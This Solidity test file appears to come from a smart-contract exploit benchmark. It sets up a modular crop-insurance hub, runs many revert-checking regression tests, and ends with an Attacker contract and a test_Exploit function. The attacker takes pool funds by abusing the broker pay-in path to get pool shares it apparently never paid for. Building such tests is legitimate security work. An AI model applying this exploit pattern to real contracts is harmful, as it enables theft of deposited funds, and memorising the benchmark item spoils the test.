pragma solidity 0.4.26;

import "./BrokerModule.sol";

// assay-canary-0e8b431b-4994-4cdf-80ab-15c4e5301d53

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

interface Unknown {
    function unknown() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant DAN = address(0xDA7);
    address private constant EVA = address(0xE7A);
    uint private constant START = 1700000000;

    HarvestHub private hub;
    AccountModule private accounts;
    PoolModule private pool;
    PolicyModule private policies;
    ClaimModule private claims;
    GrantModule private grants;
    BrokerModule private brokers;
    Attacker private mallory;
    bytes4[] private sigs;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 10 ether);
        hub = new HarvestHub();
        installAccounts();
        installPool();
        installPolicies();
        installClaims();
        installGrants();
        installBrokers();
        accounts = AccountModule(address(hub));
        pool = PoolModule(address(hub));
        policies = PolicyModule(address(hub));
        claims = ClaimModule(address(hub));
        grants = GrantModule(address(hub));
        brokers = BrokerModule(address(hub));
        pool.openPool.value(1 ether)();
        policies.addProduct("wheat", 400, 90 days, 20 ether);
        vm.deal(ANA, 70 ether);
        vm.deal(BEN, 30 ether);
        vm.deal(CAT, 30 ether);
        vm.startPrank(ANA);
        accounts.payIn.value(65 ether)();
        pool.joinPool(60 ether);
        vm.stopPrank();
        vm.startPrank(BEN);
        accounts.payIn.value(10 ether)();
        policies.buyPolicy(BEN, 0, 10 ether);
        vm.stopPrank();
        vm.prank(EVA);
        brokers.enlist(100);
        mallory = new Attacker(address(hub));
        vm.deal(address(mallory), 40 ether);
    }

    function () public payable {}

    function add(string name) private {
        sigs.push(bytes4(keccak256(bytes(name))));
    }

    function installAccounts() private {
        delete sigs;
        add("payIn()");
        add("payInFor(address)");
        add("payOut(uint256)");
        add("payOutTo(address,uint256)");
        add("move(address,uint256)");
        add("setOperator(address,bool)");
        add("accountOf(address)");
        add("operatorOf(address,address)");
        add("totalInAccounts()");
        hub.install(address(new AccountModule()), sigs);
    }

    function installPool() private {
        delete sigs;
        add("openPool()");
        add("joinPool(uint256)");
        add("giveNotice()");
        add("leavePool(uint256)");
        add("sharesOf(address)");
        add("noticeAt(address)");
        add("totalShares()");
        add("poolCapital()");
        add("poolExposed()");
        add("worthOf(address)");
        hub.install(address(new PoolModule()), sigs);
    }

    function installPolicies() private {
        delete sigs;
        add("addProduct(bytes32,uint256,uint256,uint256)");
        add("setOnSale(uint256,bool)");
        add("buyPolicy(address,uint256,uint256)");
        add("givePolicy(uint256,address)");
        add("expirePolicy(uint256)");
        add("premiumFor(uint256,uint256)");
        add("policy(uint256)");
        add("product(uint256)");
        add("policiesOf(address)");
        hub.install(address(new PolicyModule()), sigs);
    }

    function installClaims() private {
        delete sigs;
        add("setAssessor(address,bool)");
        add("fileClaim(uint256,uint256)");
        add("voteOn(uint256,bool)");
        add("closeClaim(uint256)");
        add("claim(uint256)");
        add("isAssessor(address)");
        add("totalPaid()");
        hub.install(address(new ClaimModule()), sigs);
    }

    function installGrants() private {
        delete sigs;
        add("setFarmer(address,bool)");
        add("fundGrant(bytes32,uint256,uint256)");
        add("raiseGrant(uint256)");
        add("drawGrant(uint256)");
        add("endGrant(uint256)");
        add("grantLeft(uint256)");
        add("grantInfo(uint256)");
        add("isFarmer(address)");
        add("drawnBy(uint256,address)");
        add("totalInGrants()");
        hub.install(address(new GrantModule()), sigs);
    }

    function installBrokers() private {
        delete sigs;
        add("enlist(uint256)");
        add("setCut(uint256)");
        add("retire()");
        add("appoint(address,uint256)");
        add("dismiss()");
        add("payInBrokered()");
        add("collectCut()");
        add("brokerOf(address)");
        add("brokerInfo(address)");
        add("volumeOf(address)");
        add("firstBroker()");
        add("rankOf(address)");
        hub.install(address(new BrokerModule()), sigs);
    }

    function test_Regular() public {
        regularPolicies();
        regularBrokers();
        regularGrants();
        regularRest();
    }

    function regularPolicies() private {
        require(accounts.accountOf(BEN) == 9.6 ether && pool.poolCapital() == 61.4 ether && pool.poolExposed() == 10 ether);
        claims.setAssessor(CAT, true);
        claims.setAssessor(DAN, true);
        vm.prank(BEN);
        claims.fileClaim(0, 6 ether);
        vm.prank(CAT);
        claims.voteOn(0, true);
        vm.prank(DAN);
        claims.voteOn(0, true);
        vm.warp(START + 7 days);
        claims.closeClaim(0);
        require(accounts.accountOf(BEN) == 15.6 ether && pool.poolCapital() == 55.4 ether && pool.poolExposed() == 0 && claims.totalPaid() == 6 ether);
        vm.startPrank(BEN);
        accounts.setOperator(DAN, true);
        vm.stopPrank();
        vm.prank(DAN);
        policies.buyPolicy(BEN, 0, 5 ether);
        vm.prank(BEN);
        policies.givePolicy(1, CAT);
        vm.prank(CAT);
        claims.fileClaim(1, 1 ether);
        vm.warp(START + 14 days);
        claims.closeClaim(1);
        require(policies.policiesOf(BEN) == 0 && policies.policiesOf(CAT) == 1 && pool.poolCapital() == 55.6 ether);
        vm.warp(START + 100 days);
        policies.expirePolicy(1);
        require(pool.poolExposed() == 0 && policies.policiesOf(CAT) == 0);
        policies.setOnSale(0, false);
    }

    function regularBrokers() private {
        vm.startPrank(CAT);
        brokers.appoint(EVA, 200);
        brokers.payInBrokered.value(10 ether)();
        require(accounts.accountOf(CAT) == 9.9 ether && brokers.volumeOf(EVA) == 10 ether && brokers.firstBroker() == EVA);
        vm.stopPrank();
        vm.prank(EVA);
        brokers.setCut(200);
        vm.prank(CAT);
        brokers.payInBrokered.value(15 ether)();
        vm.prank(EVA);
        brokers.collectCut();
        require(accounts.accountOf(EVA) == 0.4 ether && brokers.volumeOf(EVA) == 25 ether && brokers.rankOf(EVA) == 0);
        vm.prank(CAT);
        brokers.dismiss();
        vm.prank(EVA);
        brokers.retire();
        bool isListed;
        uint cut;
        uint cutDue;
        (isListed, cut, cutDue) = brokers.brokerInfo(EVA);
        require(!isListed && cut == 200 && cutDue == 0);
        address broker;
        (broker, cut) = brokers.brokerOf(CAT);
        require(broker == 0 && cut == 200);
    }

    function regularGrants() private {
        grants.setFarmer(BEN, true);
        grants.fundGrant.value(2 ether)("hail", 1 ether, 10 days);
        grants.raiseGrant.value(1 ether)(0);
        vm.prank(BEN);
        grants.drawGrant(0);
        require(grants.grantLeft(0) == 2 ether && grants.drawnBy(0, BEN) == 1 ether && grants.totalInGrants() == 2 ether);
        vm.warp(START + 110 days);
        grants.endGrant(0);
        require(accounts.accountOf(address(this)) == 2 ether && grants.totalInGrants() == 0);
        accounts.payOut(2 ether);
    }

    function regularRest() private {
        vm.prank(ANA);
        pool.giveNotice();
        vm.warp(START + 124 days);
        uint before = accounts.accountOf(ANA);
        vm.startPrank(ANA);
        uint amount = pool.leavePool(30 ether);
        require(amount > 27.3 ether && amount < 27.4 ether && accounts.accountOf(ANA) == before + amount);
        accounts.move(BEN, 1 ether);
        accounts.payInFor.value(1 ether)(DAN);
        accounts.payOutTo(DAN, 1 ether);
        accounts.payOut(3 ether);
        vm.stopPrank();
        require(DAN.balance == 1 ether && accounts.accountOf(DAN) == 1 ether && ANA.balance == 7 ether);
        hub.setPaused(true);
        hub.setPaused(false);
        hub.replace(address(new BrokerModule()), bytes4(keccak256("retire()")));
        hub.offerOwner(ANA);
        vm.prank(ANA);
        hub.takeOwner();
        require(hub.owner() == ANA && hub.selectorCount() == 57);
    }

    function test_RefusesBrokers() public {
        vm.startPrank(EVA);
        vm.expectRevert();
        brokers.enlist(100);
        vm.expectRevert();
        brokers.setCut(501);
        vm.expectRevert();
        brokers.collectCut();
        brokers.retire();
        vm.expectRevert();
        brokers.retire();
        vm.expectRevert();
        brokers.setCut(100);
        vm.stopPrank();
        vm.prank(DAN);
        vm.expectRevert();
        brokers.enlist(501);
    }

    function test_RefusesClients() public {
        vm.startPrank(CAT);
        vm.expectRevert();
        brokers.dismiss();
        vm.expectRevert();
        brokers.appoint(DAN, 500);
        vm.expectRevert();
        brokers.appoint(EVA, 99);
        vm.expectRevert();
        brokers.payInBrokered.value(1 ether)();
        brokers.appoint(EVA, 100);
        vm.expectRevert();
        brokers.appoint(EVA, 100);
        vm.expectRevert();
        brokers.payInBrokered();
        vm.stopPrank();
        vm.prank(EVA);
        brokers.setCut(101);
        vm.prank(CAT);
        vm.expectRevert();
        brokers.payInBrokered.value(1 ether)();
        vm.prank(EVA);
        brokers.setCut(100);
        vm.prank(EVA);
        brokers.retire();
        vm.prank(CAT);
        vm.expectRevert();
        brokers.payInBrokered.value(1 ether)();
    }

    function test_RefusesWhilePaused() public {
        vm.prank(CAT);
        brokers.appoint(EVA, 100);
        hub.setPaused(true);
        vm.startPrank(CAT);
        vm.expectRevert();
        brokers.enlist(1);
        vm.expectRevert();
        brokers.payInBrokered.value(1 ether)();
        vm.expectRevert();
        accounts.payIn.value(1 ether)();
        brokers.dismiss();
        vm.expectRevert();
        brokers.appoint(EVA, 100);
        vm.stopPrank();
        vm.prank(ANA);
        accounts.payOut(1 ether);
        BrokerModule alone = new BrokerModule();
        vm.expectRevert();
        alone.enlist(1);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(CAT);
        vm.expectRevert();
        hub.setPaused(true);
        vm.expectRevert();
        hub.takeOwner();
        vm.expectRevert();
        hub.offerOwner(CAT);
        vm.expectRevert();
        pool.leavePool(1);
        vm.expectRevert();
        policies.buyPolicy(BEN, 0, 1 ether);
        vm.expectRevert();
        policies.givePolicy(0, CAT);
        vm.expectRevert();
        claims.fileClaim(0, 1 ether);
        vm.expectRevert();
        claims.setAssessor(CAT, true);
        vm.expectRevert();
        grants.setFarmer(CAT, true);
        vm.expectRevert();
        accounts.payOut(1);
        vm.stopPrank();
    }

    function test_RefusesModules() public {
        bytes4[] memory some = new bytes4[](1);
        some[0] = bytes4(keccak256("another()"));
        vm.expectRevert();
        hub.install(DAN, some);
        vm.expectRevert();
        hub.replace(address(this), some[0]);
        vm.startPrank(CAT);
        vm.expectRevert();
        hub.install(address(this), some);
        some[0] = bytes4(keccak256("retire()"));
        vm.expectRevert();
        hub.replace(address(this), some[0]);
        vm.stopPrank();
        vm.expectRevert();
        hub.install(address(this), some);
        vm.expectRevert();
        hub.replace(DAN, some[0]);
        vm.expectRevert();
        Unknown(hub).unknown();
        some[0] = bytes4(0);
        hub.install(address(this), some);
        require(!address(hub).call(new bytes(0)));
    }

    function test_RefusesAccounts() public {
        vm.startPrank(ANA);
        vm.expectRevert();
        accounts.payIn();
        vm.expectRevert();
        accounts.payInFor.value(1 ether)(0);
        vm.expectRevert();
        accounts.payInFor(DAN);
        vm.expectRevert();
        accounts.payOut(0);
        vm.expectRevert();
        accounts.payOutTo(0, 1 ether);
        vm.expectRevert();
        accounts.payOutTo(DAN, 0);
        vm.expectRevert();
        accounts.move(0, 1 ether);
        vm.expectRevert();
        accounts.setOperator(0, true);
        vm.expectRevert();
        accounts.setOperator(ANA, true);
        vm.stopPrank();
    }

    function test_RefusesPool() public {
        vm.expectRevert();
        pool.openPool.value(1 ether)();
        vm.prank(BEN);
        vm.expectRevert();
        pool.joinPool(1);
        vm.startPrank(ANA);
        pool.giveNotice();
        vm.expectRevert();
        pool.leavePool(1 ether);
        vm.warp(START + 14 days);
        vm.expectRevert();
        pool.leavePool(0);
        vm.expectRevert();
        pool.leavePool(60 ether);
        vm.warp(START + 21 days);
        vm.expectRevert();
        pool.leavePool(1 ether);
        vm.stopPrank();
    }

    function test_RefusesNewPool() public {
        hub = new HarvestHub();
        installAccounts();
        installPool();
        accounts = AccountModule(address(hub));
        pool = PoolModule(address(hub));
        vm.expectRevert();
        pool.openPool.value(2 ether)();
        vm.startPrank(ANA);
        vm.expectRevert();
        pool.openPool.value(1 ether)();
        accounts.payIn.value(1 ether)();
        vm.expectRevert();
        pool.joinPool(1 ether);
        vm.stopPrank();
        new BrokerModule();
    }

    function test_RefusesProducts() public {
        vm.expectRevert();
        policies.addProduct(0, 400, 90 days, 20 ether);
        vm.expectRevert();
        policies.addProduct("oats", 0, 90 days, 20 ether);
        vm.expectRevert();
        policies.addProduct("oats", 10001, 90 days, 20 ether);
        vm.expectRevert();
        policies.addProduct("oats", 400, 1 days - 1, 20 ether);
        vm.expectRevert();
        policies.addProduct("oats", 400, 365 days + 1, 20 ether);
        vm.expectRevert();
        policies.addProduct("oats", 400, 90 days, 0);
        vm.expectRevert();
        policies.addProduct("oats", 400, 90 days, 100000 ether + 1);
        vm.expectRevert();
        policies.premiumFor(0, 100000 ether + 1);
        vm.startPrank(CAT);
        vm.expectRevert();
        policies.addProduct("oats", 400, 90 days, 20 ether);
        vm.expectRevert();
        policies.setOnSale(0, false);
        vm.stopPrank();
        policies.setOnSale(0, false);
        vm.prank(BEN);
        vm.expectRevert();
        policies.buyPolicy(BEN, 0, 1 ether);
    }

    function test_RefusesPolicies() public {
        vm.startPrank(BEN);
        vm.expectRevert();
        policies.buyPolicy(BEN, 0, 0);
        vm.expectRevert();
        policies.buyPolicy(BEN, 0, 20 ether + 1);
        vm.expectRevert();
        policies.givePolicy(0, 0);
        vm.expectRevert();
        policies.expirePolicy(0);
        policies.buyPolicy(BEN, 0, 20 ether);
        policies.buyPolicy(BEN, 0, 20 ether);
        vm.expectRevert();
        policies.buyPolicy(BEN, 0, 20 ether);
        claims.fileClaim(0, 1 ether);
        vm.expectRevert();
        policies.givePolicy(0, CAT);
        vm.warp(START + 90 days);
        vm.expectRevert();
        policies.expirePolicy(0);
        policies.expirePolicy(1);
        vm.expectRevert();
        policies.expirePolicy(1);
        vm.expectRevert();
        policies.givePolicy(1, CAT);
        vm.stopPrank();
    }

    function test_RefusesClaims() public {
        vm.expectRevert();
        claims.setAssessor(0, true);
        claims.setAssessor(CAT, true);
        claims.setAssessor(DAN, true);
        vm.startPrank(BEN);
        vm.expectRevert();
        claims.fileClaim(0, 0);
        vm.expectRevert();
        claims.fileClaim(0, 10 ether + 1);
        claims.fileClaim(0, 1 ether);
        vm.expectRevert();
        claims.fileClaim(0, 1 ether);
        vm.expectRevert();
        claims.voteOn(0, true);
        vm.expectRevert();
        claims.closeClaim(0);
        vm.stopPrank();
        vm.prank(CAT);
        claims.voteOn(0, true);
        vm.prank(CAT);
        vm.expectRevert();
        claims.voteOn(0, true);
        vm.prank(DAN);
        claims.voteOn(0, true);
        claims.setAssessor(EVA, true);
        vm.warp(START + 7 days);
        vm.prank(EVA);
        vm.expectRevert();
        claims.voteOn(0, true);
        claims.closeClaim(0);
        vm.expectRevert();
        claims.closeClaim(0);
        vm.startPrank(BEN);
        vm.expectRevert();
        claims.fileClaim(0, 1 ether);
        policies.buyPolicy(BEN, 0, 1 ether);
        vm.warp(START + 97 days);
        vm.expectRevert();
        claims.fileClaim(1, 1 ether);
        vm.stopPrank();
    }

    function test_RefusesGrants() public {
        vm.expectRevert();
        grants.setFarmer(0, true);
        vm.expectRevert();
        grants.fundGrant.value(1 ether)(0, 1 ether, 10 days);
        vm.expectRevert();
        grants.fundGrant.value(1 ether)("hail", 0, 10 days);
        vm.expectRevert();
        grants.fundGrant.value(1 ether)("hail", 1 ether + 1, 10 days);
        vm.expectRevert();
        grants.fundGrant.value(1 ether)("hail", 1 ether, 0);
        vm.expectRevert();
        grants.fundGrant.value(1 ether)("hail", 1 ether, 730 days + 1);
        grants.fundGrant.value(2 ether)("hail", 1 ether, 10 days);
        vm.prank(BEN);
        vm.expectRevert();
        grants.drawGrant(0);
        grants.setFarmer(BEN, true);
        grants.setFarmer(CAT, true);
        grants.setFarmer(DAN, true);
        vm.prank(BEN);
        grants.drawGrant(0);
        vm.prank(BEN);
        vm.expectRevert();
        grants.drawGrant(0);
        vm.prank(CAT);
        grants.drawGrant(0);
        vm.prank(DAN);
        vm.expectRevert();
        grants.drawGrant(0);
        grants.raiseGrant.value(1 ether)(0);
        vm.expectRevert();
        grants.endGrant(0);
        vm.warp(START + 10 days);
        vm.expectRevert();
        grants.raiseGrant.value(1 ether)(0);
        vm.prank(DAN);
        vm.expectRevert();
        grants.drawGrant(0);
        vm.prank(DAN);
        vm.expectRevert();
        grants.endGrant(0);
        grants.endGrant(0);
        vm.expectRevert();
        grants.endGrant(0);
    }

    // An index that the array refuses takes all gas of the call, after which nothing can be deployed.
    function test_RefusesIndexes() public {
        vm.expectRevert();
        claims.fileClaim(1, 1 ether);
        claims.setAssessor(CAT, true);
        vm.prank(CAT);
        vm.expectRevert();
        claims.voteOn(0, true);
        vm.expectRevert();
        claims.closeClaim(0);
        vm.expectRevert();
        claims.claim(0);
        vm.expectRevert();
        grants.raiseGrant.value(1 ether)(0);
        grants.setFarmer(BEN, true);
        vm.prank(BEN);
        vm.expectRevert();
        grants.drawGrant(0);
        vm.expectRevert();
        grants.endGrant(0);
        vm.expectRevert();
        grants.grantLeft(0);
        vm.expectRevert();
        grants.grantInfo(0);
        vm.expectRevert();
        policies.setOnSale(1, false);
        vm.prank(BEN);
        vm.expectRevert();
        policies.buyPolicy(BEN, 1, 1 ether);
        vm.prank(BEN);
        vm.expectRevert();
        policies.givePolicy(1, CAT);
        vm.expectRevert();
        policies.expirePolicy(1);
        vm.expectRevert();
        policies.premiumFor(1, 1 ether);
        vm.expectRevert();
        policies.policy(1);
        vm.expectRevert();
        policies.product(1);
        new BrokerModule();
    }

    function test_RefusesAllWhilePaused() public {
        claims.setAssessor(CAT, true);
        grants.setFarmer(BEN, true);
        grants.fundGrant.value(1 ether)("hail", 1 ether, 10 days);
        vm.prank(BEN);
        claims.fileClaim(0, 1 ether);
        vm.prank(BEN);
        policies.buyPolicy(BEN, 0, 1 ether);
        vm.prank(ANA);
        pool.giveNotice();
        hub.setPaused(true);
        vm.startPrank(ANA);
        vm.expectRevert();
        accounts.payInFor.value(1 ether)(DAN);
        vm.expectRevert();
        accounts.payOutTo(DAN, 1 ether);
        vm.expectRevert();
        accounts.move(DAN, 1 ether);
        vm.expectRevert();
        pool.joinPool(1 ether);
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.expectRevert();
        policies.buyPolicy(BEN, 0, 1 ether);
        vm.expectRevert();
        policies.givePolicy(1, CAT);
        vm.expectRevert();
        claims.fileClaim(1, 1 ether);
        vm.expectRevert();
        grants.drawGrant(0);
        vm.stopPrank();
        vm.prank(CAT);
        vm.expectRevert();
        claims.voteOn(0, true);
        vm.expectRevert();
        grants.fundGrant.value(1 ether)("rain", 1 ether, 10 days);
        vm.expectRevert();
        grants.raiseGrant.value(1 ether)(0);
        vm.warp(START + 14 days);
        vm.prank(ANA);
        vm.expectRevert();
        pool.leavePool(1 ether);
        vm.expectRevert();
        claims.closeClaim(0);
        vm.expectRevert();
        grants.endGrant(0);
        vm.warp(START + 90 days);
        vm.expectRevert();
        policies.expirePolicy(1);
    }

    function exploit() public {
        mallory.enter();
        vm.warp(START + 14 days);
        mallory.leave();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 70 ether);
    }

    function target() public view returns (address) {
        return address(hub);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    address private hub;

    function Attacker(address _hub) public {
        hub = _hub;
    }

    function enter() public {
        BrokerModule(hub).enlist(0);
        BrokerModule(hub).appoint(address(this), 0);
        BrokerModule(hub).payInBrokered.value(40 ether)();
        AccountModule(hub).payOut(40 ether);
        PoolModule(hub).giveNotice();
    }

    function leave() public {
        uint amount = PoolModule(hub).leavePool(40 ether);
        AccountModule(hub).payOut(amount);
    }

    function () public payable {}
}
